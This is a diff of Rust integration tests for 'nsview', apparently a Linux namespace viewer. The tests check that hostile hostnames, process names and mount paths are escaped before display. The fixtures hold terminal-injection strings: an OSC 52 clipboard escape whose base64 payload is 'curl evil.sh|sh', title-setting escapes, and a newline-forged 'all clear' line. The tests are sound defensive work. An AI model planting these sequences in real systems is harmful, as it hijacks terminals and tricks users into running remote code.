@@ -13,13 +13,13 @@ use std::process::Output;
 use crate::util::{FAKE_ROOT_NOTICE, FakeProc, HOST, nsview, raw_stderr, stderr, stdout, with};
 
 /// OSC 52: set the clipboard to `curl evil.sh|sh`.
-const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
+pub(crate) const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
 /// OSC 0: set the window title.
-const OSC0: &str = "\x1b]0;EXEC\x07";
+pub(crate) const OSC0: &str = "\x1b]0;EXEC\x07";
 /// Clear the screen.
 const CLEAR: &str = "\x1b[2J";
 /// A line nsview never prints, forged by a newline in a host string.
-const FORGED: &str = "nsview: all clear";
+pub(crate) const FORGED: &str = "nsview: all clear";
 
 /// No raw ESC, BEL or C1 CSI, and no line forged by a host string's newline.
 fn assert_terminal_safe(what: &str, bytes: &[u8]) {
@@ -379,11 +379,11 @@ fn no_error_fd_can_be_chosen_from_outside() {
 /// hostname (busybox's `hostname`: util-linux's refuses such names; the kernel does not), its comm, its argv, an interface name, and the source of a tmpfs on /tmp and
 /// the root of a bind mount on /etc/hostname (inside its private mount namespace only). It
 /// waits on a `sleep` child; both are killed by PID on drop.
-struct HostileShell {
+pub(crate) struct HostileShell {
     shell: std::process::Child,
     sleep: i32,
     /// The interface name the kernel took (the ESC one, or the backslash fallback).
-    ifname: String,
+    pub(crate) ifname: String,
 }
 
 impl Drop for HostileShell {
@@ -398,14 +398,14 @@ impl Drop for HostileShell {
 }
 
 /// The hostname (at most 64 bytes), comm (15) and interface name (15) the shell plants.
-const HOSTNAME: &str = "h\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
-const COMM: &str = "c\x1b]0;T\x07\n";
+pub(crate) const HOSTNAME: &str = "h\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
+pub(crate) const COMM: &str = "c\x1b]0;T\x07\n";
 const IFNAME: &str = "i\x1b]0;T\x07";
 /// What `ip link add` is given when the kernel or iproute2 refuses the ESC name.
 const IFNAME_FALLBACK: &str = r"i\x1bodd";
 
 impl HostileShell {
-    fn start() -> HostileShell {
+    pub(crate) fn start() -> HostileShell {
         use std::io::BufRead;
         let script = r#"
             set -e
@@ -461,24 +461,24 @@ impl HostileShell {
         }
     }
 
-    fn pid(&self) -> i32 {
+    pub(crate) fn pid(&self) -> i32 {
         self.shell.id() as i32
     }
 
-    fn ns(&self, kind: &str) -> u64 {
+    pub(crate) fn ns(&self, kind: &str) -> u64 {
         crate::util::ns_inode(self.pid(), kind).expect("ns link of the hostile shell")
     }
 }
 
 /// A bind mount of a namespace file at a hostile path in a temp dir of the host's mount
 /// namespace (as `ip netns add` makes them), unmounted and removed on drop.
-struct HostileBindMount {
-    path: std::path::PathBuf,
+pub(crate) struct HostileBindMount {
+    pub(crate) path: std::path::PathBuf,
     _dir: tempfile::TempDir,
 }
 
 impl HostileBindMount {
-    fn new(ns_file: &Path) -> HostileBindMount {
+    pub(crate) fn new(ns_file: &Path) -> HostileBindMount {
         let dir = tempfile::tempdir().expect("tempdir");
         let path = dir.path().join(format!("b{OSC0}\n{FORGED}"));
         std::fs::write(&path, "").expect("mount point");
@@ -577,7 +577,11 @@ fn hostile_strings_in_live_namespaces_are_escaped_everywhere() {
         .map(str::to_string)
         .unwrap_or_else(|| panic!("no row for {uts}: {}", stdout(&out)));
     assert!(row.contains(r"h\x1b]52;c;"), "hostname escaped: {row}");
-    assert!(row.contains(r"f\x1b[2J"), "argv escaped: {row}");
+    assert!(
+        row.contains(r"f\x1b[2J"),
+        "argv escaped: {row}\n{}",
+        stdout(&out)
+    );
 
     // The error lines of enter, also for a command name that is itself hostile.
     for command in [
@@ -681,11 +685,14 @@ fn the_ui_gets_its_childs_error_line_through_its_own_pipe() {
     // The UI names the namespace with its type (`uts:[inode]`), so enter's line does too.
     // The child's own reason ("... is gone ..." from enter's identity check, or "not found"),
     // which only the pipe carries: without it the UI can only say "exited with status 1".
+    // The UI's status line, not the child's own stderr line, which the normal screen shows
+    // for a moment before the UI takes the terminal back.
     let screen = tmux.wait_for("the child's error in the status line", |s| {
-        s.contains(&format!("{inode}")) && (s.contains("is gone") || s.contains("not found"))
+        s.contains(&format!("{inode}"))
+            && (s.contains("is gone") || s.contains("not found"))
+            && s.contains("(shell in uts:[")
     });
     assert!(!screen.contains("exited with status"), "{screen}");
-    assert!(screen.contains("(shell in uts:["), "{screen}");
     tmux.run(&["send-keys", "-t", "ui", "q"]);
 }
 
